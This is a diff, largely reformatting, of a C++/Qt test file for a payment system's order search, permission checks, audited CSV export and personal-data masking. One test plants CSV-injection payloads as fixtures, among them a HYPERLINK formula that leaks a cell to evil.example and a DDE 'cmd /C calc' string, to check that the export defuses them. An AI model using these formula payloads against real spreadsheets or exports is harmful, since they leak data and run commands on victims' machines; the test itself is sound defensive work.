@@ -1,10 +1,7 @@
 #include "core/PaydeskCore.h"
-#include "tests/support/TestDatabase.h"
 #include "core/channel/ChannelNames.h"
-#include "demo/DemoOrders.h"
-#include "demo/DemoSetup.h"
-#include "core/payment/OrderImport.h"
 #include "core/merchant/MerchantMasking.h"
+#include "core/payment/OrderImport.h"
 #include "core/payment/search/OrderSearch.h"
 #include "core/payment/search/OrderStory.h"
 #include "core/storage/Sql.h"
@@ -12,11 +9,14 @@
 #include "core/util/CsvReader.h"
 #include "core/util/CsvWriter.h"
 #include "core/util/Error.h"
+#include "demo/DemoOrders.h"
+#include "demo/DemoSetup.h"
+#include "tests/support/TestDatabase.h"
 
 #include <QBuffer>
+#include <QFile>
 #include <QJsonArray>
 #include <QJsonDocument>
-#include <QFile>
 #include <QRandomGenerator>
 #include <QScopeGuard>
 #include <QTemporaryDir>
@@ -73,7 +73,9 @@ private:
         if (!DemoSetup::create(*p->core, options))
             return nullptr;
         auto actor = [&](const char *name) {
-            return p->core->operators().authenticate(QString::fromLatin1(name), QString::fromLatin1(DemoSetup::kPassword), {})->actor;
+            return p->core->operators()
+                .authenticate(QString::fromLatin1(name), QString::fromLatin1(DemoSetup::kPassword), {})
+                ->actor;
         };
         p->support = actor("support");
         p->finance = actor("finance");
@@ -101,11 +103,13 @@ private:
     static bool loadRows(Platform &p)
     {
         const QSqlDatabase db = p.core->database().connection().value();
-        auto q = Sql::run(db, QStringLiteral(
-                                  "SELECT o.id, o.order_no, m.merchant_no, a.app_id, o.merchant_order_no, ca.channel, ca.name, "
-                                  "o.method, o.status, o.channel_transaction_id, o.payer_id, o.amount, o.created_at, o.paid_at "
-                                  "FROM payment_order o JOIN merchant m ON m.id = o.merchant_id "
-                                  "JOIN application a ON a.id = o.application_id JOIN channel_account ca ON ca.id = o.channel_account_id"));
+        auto q = Sql::run(
+            db, QStringLiteral(
+                    "SELECT o.id, o.order_no, m.merchant_no, a.app_id, o.merchant_order_no, ca.channel, ca.name, "
+                    "o.method, o.status, o.channel_transaction_id, o.payer_id, o.amount, o.created_at, o.paid_at "
+                    "FROM payment_order o JOIN merchant m ON m.id = o.merchant_id "
+                    "JOIN application a ON a.id = o.application_id JOIN channel_account ca ON ca.id = "
+                    "o.channel_account_id"));
         if (!q)
             return false;
         QHash<qint64, qsizetype> index;
@@ -130,7 +134,9 @@ private:
             index.insert(r.id, p.rows.size());
             p.rows << r;
         }
-        auto refunds = Sql::run(db, QStringLiteral("SELECT order_id, refund_no, merchant_refund_no, channel_refund_id FROM payment_refund"));
+        auto refunds = Sql::run(
+            db,
+            QStringLiteral("SELECT order_id, refund_no, merchant_refund_no, channel_refund_id FROM payment_refund"));
         if (!refunds)
             return false;
         while (refunds->next()) {
@@ -150,9 +156,10 @@ private:
     static bool matches(const Row &r, const OrderFilter &f)
     {
         const QString id = f.anyId.trimmed();
-        if (!id.isEmpty() && r.orderNo != id && r.merchantOrderNo != id && (r.channelTransactionId.isEmpty() || r.channelTransactionId != id) &&
-            (r.payerId.isEmpty() || r.payerId != id) && !r.refundNos.contains(id) && !r.merchantRefundNos.contains(id) &&
-            !(r.channelRefundIds.contains(id) && !id.isEmpty()))
+        if (!id.isEmpty() && r.orderNo != id && r.merchantOrderNo != id &&
+            (r.channelTransactionId.isEmpty() || r.channelTransactionId != id) &&
+            (r.payerId.isEmpty() || r.payerId != id) && !r.refundNos.contains(id) &&
+            !r.merchantRefundNos.contains(id) && !(r.channelRefundIds.contains(id) && !id.isEmpty()))
             return false;
         if (!f.merchantNo.isEmpty() && r.merchantNo != f.merchantNo)
             return false;
@@ -284,8 +291,12 @@ private slots:
         QVERIFY(p);
         int kinds[7] = {};
         for (const Row &r : std::as_const(p->rows)) {
-            const QList<std::pair<QString, int>> ids{{r.orderNo, 0}, {r.merchantOrderNo, 1}, {r.channelTransactionId, 2},
-                                                     {r.payerId, 3},  {r.refundNos.value(0), 4}, {r.merchantRefundNos.value(0), 5},
+            const QList<std::pair<QString, int>> ids{{r.orderNo, 0},
+                                                     {r.merchantOrderNo, 1},
+                                                     {r.channelTransactionId, 2},
+                                                     {r.payerId, 3},
+                                                     {r.refundNos.value(0), 4},
+                                                     {r.merchantRefundNos.value(0), 5},
                                                      {r.channelRefundIds.value(0), 6}};
             for (const auto &[id, kind] : ids) {
                 if (id.isEmpty() || kinds[kind] >= 5)
@@ -305,7 +316,8 @@ private slots:
             }
         }
         for (int kind = 0; kind < 7; ++kind)
-            QVERIFY2(kinds[kind] == 5, qPrintable(QStringLiteral("id kind %1 seen %2 times").arg(kind).arg(kinds[kind])));
+            QVERIFY2(kinds[kind] == 5,
+                     qPrintable(QStringLiteral("id kind %1 seen %2 times").arg(kind).arg(kinds[kind])));
 
         OrderFilter nobody;
         nobody.anyId = QStringLiteral("no-such-id-anywhere");
@@ -386,7 +398,8 @@ private slots:
         auto denied = p->core->orderSearch().page(p->onboarding, OrderFilter{});
         QVERIFY(!denied.ok());
         QCOMPARE(denied.error().code(), ErrorCode::PermissionDenied);
-        QCOMPARE(p->core->orderSearch().count(p->onboarding, OrderFilter{}).error().code(), ErrorCode::PermissionDenied);
+        QCOMPARE(p->core->orderSearch().count(p->onboarding, OrderFilter{}).error().code(),
+                 ErrorCode::PermissionDenied);
     }
 
     void badFiltersAreRefused()
@@ -396,7 +409,8 @@ private slots:
         OrderSearch &search = p->core->orderSearch();
         auto refused = [&](const OrderFilter &f, const QString &word) {
             auto page = search.page(p->support, f);
-            return !page.ok() && page.error().code() == ErrorCode::InvalidArgument && page.error().detail().contains(word);
+            return !page.ok() && page.error().code() == ErrorCode::InvalidArgument &&
+                   page.error().detail().contains(word);
         };
         OrderFilter f;
         f.merchantNo = QStringLiteral("M9999");
@@ -423,7 +437,8 @@ private slots:
         f.paidTo = QDate(2026, 11, 1);
         QVERIFY(refused(f, QStringLiteral("paid")));
         QCOMPARE(search.page(p->support, OrderFilter{}, {}, 0).error().code(), ErrorCode::InvalidArgument);
-        QCOMPARE(search.page(p->support, OrderFilter{}, {}, OrderSearch::kMaxPageSize + 1).error().code(), ErrorCode::InvalidArgument);
+        QCOMPARE(search.page(p->support, OrderFilter{}, {}, OrderSearch::kMaxPageSize + 1).error().code(),
+                 ErrorCode::InvalidArgument);
     }
 
     void exportStreamsEveryRowAndCanBeCancelled()
@@ -434,9 +449,10 @@ private slots:
         f.hasRefund = true;
         const QList<QString> expected = bruteForce(*p, f);
         QVERIFY(expected.size() > 50);
-        const qint64 auditBefore = Sql::scalar(p->core->database().connection().value(),
-                                               QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
-                                       ->toLongLong();
+        const qint64 auditBefore =
+            Sql::scalar(p->core->database().connection().value(),
+                        QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
+                ->toLongLong();
 
         QBuffer csv;
         QVERIFY(csv.open(QIODevice::ReadWrite));
@@ -461,18 +477,22 @@ private slots:
             QVERIFY(payer.isEmpty() || payer.contains(QLatin1Char('*'))); // support's export is masked too
         }
         const QSqlDatabase db = p->core->database().connection().value();
-        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))->toLongLong(),
+        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
+                     ->toLongLong(),
                  auditBefore + 1);
 
         // Cancelled after the first page: an error, and no audit record of an export that did not happen.
         QBuffer cancelled;
         QVERIFY(cancelled.open(QIODevice::ReadWrite));
-        auto stopped = p->core->orderSearch().exportCsv(p->support, OrderFilter{}, cancelled, [](qint64) { return false; });
+        auto stopped =
+            p->core->orderSearch().exportCsv(p->support, OrderFilter{}, cancelled, [](qint64) { return false; });
         QVERIFY(!stopped.ok());
         QCOMPARE(stopped.error().code(), ErrorCode::Cancelled);
-        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))->toLongLong(),
+        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
+                     ->toLongLong(),
                  auditBefore + 1);
-        QCOMPARE(p->core->orderSearch().exportCsv(p->onboarding, f, cancelled).error().code(), ErrorCode::PermissionDenied);
+        QCOMPARE(p->core->orderSearch().exportCsv(p->onboarding, f, cancelled).error().code(),
+                 ErrorCode::PermissionDenied);
     }
 
     // Text that payers, merchants and channels chose goes into the CSV defused: the review's
@@ -489,7 +509,8 @@ private slots:
             }
         }
         QVERIFY(paid);
-        const QString payer = QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
+        const QString payer =
+            QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
         const QString subject = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0\r\n\x1b[2Jnext\tline");
         const QString merchantOrderNo = QStringLiteral("+%1\u202E").arg(paid->merchantOrderNo);
         const QString channelTransactionId = QStringLiteral("-%1").arg(paid->channelTransactionId);
@@ -498,11 +519,17 @@ private slots:
         QVERIFY(original && original->next());
         const QString originalSubject = original->value(0).toString();
         original->finish();
-        const QString update = QStringLiteral("UPDATE payment_order SET payer_id = ?, subject = ?, merchant_order_no = ?, "
-                                              "channel_transaction_id = ? WHERE id = ?");
-        QVERIFY(Sql::exec(db, update, {payer + QStringLiteral("\x01\x07"), subject, merchantOrderNo, channelTransactionId, paid->id}).ok());
+        const QString update =
+            QStringLiteral("UPDATE payment_order SET payer_id = ?, subject = ?, merchant_order_no = ?, "
+                           "channel_transaction_id = ? WHERE id = ?");
+        QVERIFY(
+            Sql::exec(db, update,
+                      {payer + QStringLiteral("\x01\x07"), subject, merchantOrderNo, channelTransactionId, paid->id})
+                .ok());
         auto restore = qScopeGuard([&]() {
-            (void)Sql::exec(db, update, {paid->payerId, originalSubject, paid->merchantOrderNo, paid->channelTransactionId, paid->id});
+            (void)Sql::exec(
+                db, update,
+                {paid->payerId, originalSubject, paid->merchantOrderNo, paid->channelTransactionId, paid->id});
         });
 
         OrderFilter f;
@@ -528,7 +555,8 @@ private slots:
             if (sensitive)
                 QCOMPARE(cell("payer_id"), QLatin1Char('\'') + payer);
             else
-                QVERIFY2(cell("payer_id").startsWith(QStringLiteral("'=")) && cell("payer_id").contains(QLatin1Char('*')),
+                QVERIFY2(cell("payer_id").startsWith(QStringLiteral("'=")) &&
+                             cell("payer_id").contains(QLatin1Char('*')),
                          qPrintable(cell("payer_id"))); // masked, and still defused
             QCOMPARE(cell("subject"), QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0  [2Jnext line"));
             QCOMPARE(cell("merchant_order_no"), QStringLiteral("'+") + paid->merchantOrderNo);
@@ -545,10 +573,12 @@ private slots:
 
     void storySnapshotsHidePersonalData()
     {
-        const QJsonObject raw{{QStringLiteral("payer"), QJsonObject{{QStringLiteral("openid"), QStringLiteral("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o")}}},
-                              {QStringLiteral("fund_bill_list"),
-                               QJsonArray{QJsonObject{{QStringLiteral("buyer_logon_id"), QStringLiteral("buyer@example.com")}}}},
-                              {QStringLiteral("amount"), QStringLiteral("88.00")}};
+        const QJsonObject raw{
+            {QStringLiteral("payer"),
+             QJsonObject{{QStringLiteral("openid"), QStringLiteral("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o")}}},
+            {QStringLiteral("fund_bill_list"),
+             QJsonArray{QJsonObject{{QStringLiteral("buyer_logon_id"), QStringLiteral("buyer@example.com")}}}},
+            {QStringLiteral("amount"), QStringLiteral("88.00")}};
         const QJsonObject masked = OrderStories::maskPersonalData(raw);
         const QByteArray text = QJsonDocument(masked).toJson(QJsonDocument::Compact);
         QVERIFY(!text.contains("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o"));
